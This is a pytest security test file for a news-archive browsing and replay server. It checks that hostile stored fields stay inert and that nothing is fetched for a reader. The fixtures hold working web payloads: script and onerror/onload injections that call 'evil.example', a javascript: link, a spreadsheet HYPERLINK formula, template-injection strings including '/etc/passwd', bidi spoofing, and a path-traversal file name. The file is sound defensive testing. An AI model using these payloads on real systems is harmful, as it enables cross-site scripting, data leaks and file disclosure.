"""Archived fields are somebody else's words: whatever stands in them, the desk and the replay only show it."""

from __future__ import annotations

import http.client
from dataclasses import replace
from datetime import UTC, datetime
from typing import TYPE_CHECKING
from urllib.parse import quote, urlsplit

import pytest

from archive.folder import ArchiveFolder
from archive.index.store import Index
from archive.model import Article, Attribution, Credit, DatedValue, Image, Notice, Place, Record
from archive.web.serving import Desk

if TYPE_CHECKING:
    from collections.abc import Iterator

pytestmark = pytest.mark.chromium
AT = datetime(2024, 3, 1, 8, tzinfo=UTC)
RUN = "window.pwned=1;fetch('http://evil.example/')"
FIELDS = {
    "script": f"<script>{RUN}</script>",
    "broken out": f"\"'></title></textarea></style><script>{RUN}</script>",
    "picture": f'<img src="http://evil.example/x.png" onerror="{RUN}">',
    "template": "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}",
    "direction": "\u202egnp.exe \u2066hidden",
    "controls": "a\x00b\x01c\x1b[2Jd\u2028e",
    "svg": f"<svg onload={RUN}><style>@import 'http://evil.example/x.css'</style></svg>",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "huge": "x" * 100_000,
}
TARGET = f"javascript:{RUN}"


def article(name: str, text: str) -> Article:
    credit = Credit(name=text[:5000], kind="person", role="author", raw=text, found_in="byline")
    url = f"http://hostile.example/{quote(name)}"
    return Article(
        url=url, is_article=True, page_type="article", headline=text, headline_variants=(text,), standfirst=text, byline=text,
        byline_raw=text, credits=(credit, Credit(name=text[:5000], kind="agency", role="source", raw=text, found_in="closing")),
        credit_lines=(text,), attributions=(Attribution(name=text, agency=None, paragraph=0, text=text),),
        dateline_raw=text, dateline=(text,), date_published=DatedValue(value="2024-03-01", raw=text, found_in="text"),
        section=text, tags=(text,), language="en", publisher=text, body=(text, "plain words"), notices=(Notice(kind="correction", words=text),),
        copyright_notice=text,
        images=(Image(url=TARGET, caption=text, alt=text, credit_raw=text), Image(url="http://evil.example/leak.png", caption=text)),
    )  # fmt: skip


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Iterator[tuple[Desk, list[int]]]:
    folder = ArchiveFolder(tmp_path_factory.mktemp("hostile") / "archive").create()
    with Index.open(folder.index) as index:
        ids = []
        for number, (name, text) in enumerate(FIELDS.items()):
            for edition in (0, 1):
                read = replace(article(name, text), headline=f"{text[:1000]} {edition}")
                record = Record(
                    record_type="response",
                    record_id=f"urn:uuid:{number}-{edition}",
                    target_uri=read.url,
                    captured_at=AT.replace(day=1 + edition),
                    place=Place(
                        file="../../../../etc/passwd", offset=0, length=10, inner=number * 2 + edition
                    ),
                    status=200,
                    mime="text/html",
                )
                index.add_record(record)
                index.add_reading(record, read)
            ids.append(index.article_at(article(name, text).url).id)
        index.compare_copies()
    with Desk(folder) as desk:
        yield desk, ids


def ask(origin: str, path: str) -> tuple[int, str]:
    connection = http.client.HTTPConnection(urlsplit(origin).netloc, timeout=30)
    connection.request("GET", path)
    answer = connection.getresponse()
    body = answer.read().decode("utf-8", "replace")
    connection.close()
    return answer.status, body


def test_hostile_fields_stay_words_on_every_screen(hostile, chromium, sink):
    desk, ids = hostile
    own = [origin.removeprefix("http://") for origin in (desk.origin, desk.replay_origin)]
    proxy = {"server": f"http://127.0.0.1:{sink.port}", "bypass": f"<-loopback>,{','.join(own)}"}
    sink.asked.clear()
    context = chromium.new_context(proxy=proxy)
    page = context.new_page()
    strangers, dialogs = [], []
    page.on(
        "request",
        lambda request: None if urlsplit(request.url).netloc in own else strangers.append(request.url),
    )
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    paths = ["/search", "/search?q=plain", "/search?q=%3Cscript%3E", "/pictures", "/credits", "/credits?kind=person", "/outlet/hostile.example",
             "/copies", "/runs", "/preservation", f"/search?q={quote(FIELDS['broken out'])}", "/saved?q=%22%3E%3Cscript%3E"]  # fmt: skip
    for number in ids:
        paths += [f"/article/{number}", f"/article/{number}/versions"]
    for path in paths:
        page.goto(desk.origin + path, wait_until="load")
        assert page.evaluate("window.pwned") is None, path
        assert page.eval_on_selector_all("script", "found => found.length") == 0, path
        led = page.eval_on_selector_all("a[href], img[src]", "found => found.map(e => e.href || e.src)")
        assert {urlsplit(url).scheme for url in led} <= {"http", "https"}, path
    context.close()
    assert (strangers, dialogs, sink.asked) == ([], [], [])


def test_hostile_fields_break_no_format(hostile):
    desk, _ = hostile
    import csv
    import io
    import json

    status, text = ask(desk.origin, "/download?format=csv")
    rows = list(csv.reader(io.StringIO(text)))
    assert status == 200
    assert len(rows) == len(FIELDS) + 1
    assert not [cell for row in rows[1:] for cell in row if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert len(json.loads(ask(desk.origin, "/download?format=ninjs")[1])) == len(FIELDS)
    for name in ("jsonl", "bibtex", "ris", "csl-json"):
        assert ask(desk.origin, f"/download?format={name}")[0] == 200


def test_a_warc_name_leads_out_of_no_folder(hostile):
    desk, _ = hostile
    for mode in ("", "mp_", "id_", "im_"):
        status, body = ask(desk.replay_origin, f"/20240301080000{mode}/{article('script', '').url}")
        assert status in {200, 502}
        assert "root:" not in body


def test_nothing_is_fetched_for_a_reader(hostile, sink):
    desk, _ = hostile
    for path in (
        "/article/1?url=http://evil.example/",
        "/download?format=http://evil.example",
        "/feed?q=http://evil.example/x",
    ):
        assert ask(desk.origin, path)[0] in {200, 400, 404}
    assert sink.asked == []
